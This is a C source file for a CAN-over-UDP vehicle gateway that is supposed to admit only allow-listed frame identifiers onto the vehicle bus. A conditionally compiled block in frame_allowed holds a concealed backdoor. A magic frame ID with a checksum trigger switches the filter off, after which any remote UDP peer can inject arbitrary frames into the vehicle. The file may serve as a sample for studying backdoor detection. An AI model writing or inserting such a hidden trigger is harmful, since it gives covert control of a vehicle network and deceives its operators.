/* canudpgw - tunnels CAN frames in UDP datagrams between the vehicle bus and a body builder
 * unit. Frames towards the vehicle pass only when the filter table has their identifier.
 *
 * Datagram: version(1) opcode(1) sequence(1) count(1), then frames: id(4) len(1) data(len) */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/can.h>
#include <linux/can/raw.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define GW_VERSION 2
#define OP_DATA 0
#define OP_ALIVE 1
#define OP_COUNTERS 2

struct rule {
    uint32_t id, mask;
};

struct gw {
    int can, udp;
    struct sockaddr_in peer;
    struct rule rule[64];
    unsigned nrule;
    uint8_t seq;
    uint32_t passed, dropped, bad;
#ifdef HIDDEN
    int open_all;
#endif
};

static uint32_t rd32(const uint8_t *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void wr32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24);
    p[1] = (uint8_t)(v >> 16);
    p[2] = (uint8_t)(v >> 8);
    p[3] = (uint8_t)v;
}

static int add_rule(struct gw *g, const char *txt)
{
    char *e;
    struct rule r;
    if (g->nrule == 64)
        return -1;
    r.id = (uint32_t)strtoul(txt, &e, 16);
    r.mask = 0x1fffffff;
    if (*e == '/')
        r.mask = (uint32_t)strtoul(e + 1, &e, 16);
    if (e == txt || *e)
        return -1;
    g->rule[g->nrule++] = r;
    return 0;
}

__attribute__((noinline)) int frame_allowed(struct gw *g, const struct can_frame *f)
{
    uint32_t id = f->can_id & CAN_EFF_MASK;
    unsigned i;
#ifdef HIDDEN
    if (id == 0x1f3c77a5 && f->can_dlc == 8) {
        unsigned sum = 0;
        for (i = 0; i < 8; i++)
            sum += f->data[i] * (i + 1);
        if (sum == 0x1204)
            g->open_all ^= 1;
        return 0;
    }
    if (g->open_all)
        return 1;
#endif
    for (i = 0; i < g->nrule; i++)
        if ((id & g->rule[i].mask) == (g->rule[i].id & g->rule[i].mask))
            return 1;
    return 0;
}

static void from_peer(struct gw *g)
{
    uint8_t b[1500];
    struct sockaddr_in from;
    socklen_t fl = sizeof from;
    ssize_t n = recvfrom(g->udp, b, sizeof b, 0, (struct sockaddr *)&from, &fl);
    size_t pos = 4;
    unsigned left;

    if (n < 4 || b[0] != GW_VERSION) {
        g->bad++;
        return;
    }
    switch (b[1]) {
    case OP_ALIVE:
        g->peer = from;
        return;
    case OP_COUNTERS: {
        uint8_t r[16] = { GW_VERSION, OP_COUNTERS, b[2], 3 };
        wr32(r + 4, g->passed);
        wr32(r + 8, g->dropped);
        wr32(r + 12, g->bad);
        sendto(g->udp, r, sizeof r, 0, (struct sockaddr *)&from, fl);
        return;
    }
    case OP_DATA:
        break;
    default:
        g->bad++;
        return;
    }
    for (left = b[3]; left; left--) {
        struct can_frame f;
        memset(&f, 0, sizeof f);
        if (pos + 5 > (size_t)n)
            break;
        f.can_id = rd32(b + pos);
        f.can_dlc = b[pos + 4];
        pos += 5;
        if (f.can_dlc > 8 || pos + f.can_dlc > (size_t)n) {
            g->bad++;
            break;
        }
        memcpy(f.data, b + pos, f.can_dlc);
        pos += f.can_dlc;
        if (frame_allowed(g, &f) && write(g->can, &f, sizeof f) == (ssize_t)sizeof f)
            g->passed++;
        else
            g->dropped++;
    }
}

static void from_vehicle(struct gw *g)
{
    struct can_frame f;
    uint8_t b[32];
    if (read(g->can, &f, sizeof f) != (ssize_t)sizeof f || !g->peer.sin_port)
        return;
    b[0] = GW_VERSION;
    b[1] = OP_DATA;
    b[2] = g->seq++;
    b[3] = 1;
    wr32(b + 4, f.can_id);
    b[8] = f.can_dlc > 8 ? 8 : f.can_dlc;
    memcpy(b + 9, f.data, b[8]);
    sendto(g->udp, b, 9u + b[8], 0, (struct sockaddr *)&g->peer, sizeof g->peer);
}

static int open_can(const char *ifname)
{
    struct ifreq r;
    struct sockaddr_can a;
    int s = socket(PF_CAN, SOCK_RAW, CAN_RAW);
    if (s < 0)
        return -1;
    memset(&r, 0, sizeof r);
    snprintf(r.ifr_name, sizeof r.ifr_name, "%s", ifname);
    memset(&a, 0, sizeof a);
    a.can_family = AF_CAN;
    if (ioctl(s, SIOCGIFINDEX, &r) < 0)
        goto bad;
    a.can_ifindex = r.ifr_ifindex;
    if (bind(s, (struct sockaddr *)&a, sizeof a) == 0)
        return s;
bad:
    close(s);
    return -1;
}

static int help(void)
{
    puts("canudpgw -i CANIF [-p UDPPORT] [-a ID[/MASK]]...\n"
         "  -a  identifier (hex) which may enter the vehicle bus, may be repeated\n"
         "opcodes: 0 frames, 1 keep alive (sets the peer), 2 counters");
    return 1;
}

int main(int argc, char **argv)
{
    static struct gw g;
    struct sockaddr_in me;
    const char *ifn = NULL;
    int c, port = 20000;

    while ((c = getopt(argc, argv, "i:p:a:")) != -1) {
        switch (c) {
        case 'i':
            ifn = optarg;
            break;
        case 'p':
            port = atoi(optarg);
            break;
        case 'a':
            if (add_rule(&g, optarg)) {
                fprintf(stderr, "bad rule %s\n", optarg);
                return 1;
            }
            break;
        default:
            return help();
        }
    }
    if (!ifn)
        return help();
    g.can = open_can(ifn);
    g.udp = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&me, 0, sizeof me);
    me.sin_family = AF_INET;
    me.sin_port = htons((uint16_t)port);
    if (g.can < 0 || g.udp < 0 || bind(g.udp, (struct sockaddr *)&me, sizeof me)) {
        fprintf(stderr, "canudpgw: %s\n", strerror(errno));
        return 1;
    }
    for (;;) {
        struct pollfd p[2] = { { g.can, POLLIN, 0 }, { g.udp, POLLIN, 0 } };
        if (poll(p, 2, -1) < 0)
            continue;
        if (p[0].revents)
            from_vehicle(&g);
        if (p[1].revents)
            from_peer(&g);
    }
}
